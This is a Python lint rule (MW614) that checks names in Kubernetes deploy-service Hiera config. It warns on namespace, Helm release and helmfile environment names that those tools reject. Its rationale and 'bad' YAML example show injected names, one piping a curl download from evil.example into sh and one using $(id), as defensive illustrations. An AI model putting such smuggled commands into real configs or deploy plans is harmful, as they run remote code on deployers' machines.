"""MW614: a deploy-service namespace, release or environment name that Kubernetes, Helm or
helmfile cannot have (warning), as MW306 for the MediaWiki deployments."""

from __future__ import annotations

import re

from mwlint.findings import Finding
from mwlint.model.types import HieraFile
from mwlint.model.values import Value, quote
from mwlint.rules.base import Rule, clip_path, without_indexes
from mwlint.settings import Settings
from mwlint.typehints import TYPE_CHECKING

if TYPE_CHECKING:
    from typing import Iterator, Optional, Set, Tuple

DNS1123_LABEL = re.compile(r"^[a-z0-9]([-a-z0-9]*[a-z0-9])?$")
RELEASE_NAME = re.compile(r"^[a-z0-9]([-a-z0-9.]*[a-z0-9])?$")
ENVIRONMENT_NAME = re.compile(r"^[A-Za-z0-9]([-A-Za-z0-9._]*[A-Za-z0-9])?$")


def _bad_characters(name: str, allowed: str) -> str:
    bad = sorted({c for c in name if not (c.isascii() and (c.isalnum() or c in allowed))})
    shown = " ".join(quote(c) for c in bad[:5])
    return shown + (f" and {len(bad) - 5} more" if len(bad) > 5 else "")


def _why(name: str, pattern: "re.Pattern[str]", allowed: str, limit: int,
         lower: bool) -> Optional[str]:
    if len(name) > limit:
        return f"is longer than {limit} characters"
    if pattern.match(name):
        return None
    if lower and name != name.lower():
        return "contains uppercase letters"
    bad = _bad_characters(name, allowed)
    if bad:
        return f"contains {bad}"
    return "does not start and end with a letter or digit"


def namespace_problem(name: str) -> Optional[str]:
    """Why Kubernetes rejects ``name`` as a namespace (a DNS-1123 label), or None."""
    return _why(name, DNS1123_LABEL, "-", 63, True)


def release_problem(name: str) -> Optional[str]:
    """Why Helm rejects ``name`` as a release name (at most 53 characters), or None."""
    return _why(name, RELEASE_NAME, "-.", 53, True)


def environment_problem(name: str) -> Optional[str]:
    """Why ``name`` cannot be a helmfile environment passed to ``helmfile -e``, or None:
    letters, digits, '-', '.' and '_' only (no whitespace, '/', or shell characters)."""
    return _why(name, ENVIRONMENT_NAME, "-._", 253, False)


class ServiceInvalidName(Rule):
    code = "MW614"
    name = "service-invalid-name"
    severity = "warning"
    summary = (
        "A deploy-service namespace that is not a DNS-1123 label (lowercase letters, digits "
        "and '-', at most 63 characters), a release name Helm rejects (lowercase letters, "
        "digits, '-' and '.', at most 53), or an environment name or alias with anything "
        "but letters, digits, '-', '.' and '_' (whitespace, '/', shell characters)."
    )
    rationale = (
        "scap's loader accepts any non-empty string, but the namespace is a Kubernetes "
        "namespace and a helmfile.d directory, the release a Helm release and the "
        "environment what scap passes to helmfile -e: the deploy fails in helmfile, after "
        "earlier groups were deployed, and a name like 'x; curl evil|sh' ends up in the "
        "commands the plan prints for a deployer to run."
    )
    bad = """
profile::kubernetes::deployment_server::deploy_service::service_catalog:
  services:
    shellbox:
      cluster_group: wikikube
      namespaces:
        "shellbox; curl -s evil.example|sh":
          environments:
            eqiad: {releases: {"main $(id)": {}}}
"""
    good = """
profile::kubernetes::deployment_server::deploy_service::service_catalog:
  services:
    shellbox:
      cluster_group: wikikube
      namespaces:
        shellbox:
          environments:
            eqiad: {releases: {main: {}}}
"""

    def check(self, hiera: HieraFile, settings: Settings) -> Iterator[Finding]:
        config = hiera.services
        if config is None:
            return
        seen: Set[Tuple[object, str]] = set()  # a name reached through an anchor: once

        def finding(at: Value, message: str, help: str, name: str) -> Iterator[Finding]:
            if (at.span, message) in seen:
                return
            seen.add((at.span, message))
            path = clip_path(at.path)
            yield self.finding_at(hiera.path, at.span, message, path, help=help,
                                  context=(None, None, without_indexes(path), name))

        for g in config.defined_groups:
            for e in g.environments:
                for name, at in [(e.name, e.name_value)] + list(e.aliases):
                    why = environment_problem(name)
                    if why:
                        yield from finding(
                            at, f"environment name {quote(name)} {why}: helmfile -e cannot "
                                f"take it", f"use letters, digits, '-', '.' and '_' (cluster "
                                            f"group {quote(g.name)})", name)
        for s in config.services or ():
            for ns in s.namespaces:
                why = namespace_problem(ns.name)
                if why:
                    yield from finding(
                        ns.name_value, f"namespace {quote(ns.name)} {why}: Kubernetes rejects "
                                       f"it",
                        "use lowercase letters, digits and '-'", ns.name)
                for ref in ns.env_refs:
                    for rel in ref.releases or ():
                        why = release_problem(rel.name)
                        if why:
                            yield from finding(
                                rel.name_value, f"release name {quote(rel.name)} {why}: Helm "
                                                f"rejects it",
                                "rename it (and its helmfile release) with lowercase "
                                "letters, digits, '-' and '.'", rel.name)
